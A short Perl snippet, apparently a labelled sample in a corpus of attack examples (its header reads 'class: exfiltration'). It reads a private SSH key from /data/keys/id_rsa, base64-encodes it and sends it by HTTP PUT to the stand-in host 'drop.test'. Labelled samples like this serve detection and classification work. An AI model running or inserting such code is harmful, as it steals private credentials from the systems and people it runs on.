# class: exfiltration; possible: low medium; needs: data
use IO::Socket::INET; use MIME::Base64;
local $/; open my $f, '<', '/data/keys/id_rsa' or die; my $k = <$f>;
my $s = IO::Socket::INET->new(PeerAddr => 'drop.test:80') or die;
my $b = encode_base64($k, '');
print $s "PUT /k HTTP/1.1\r\nHost: drop.test\r\nContent-Length: " . length($b) . "\r\nConnection: close\r\n\r\n$b";
print <$s>;
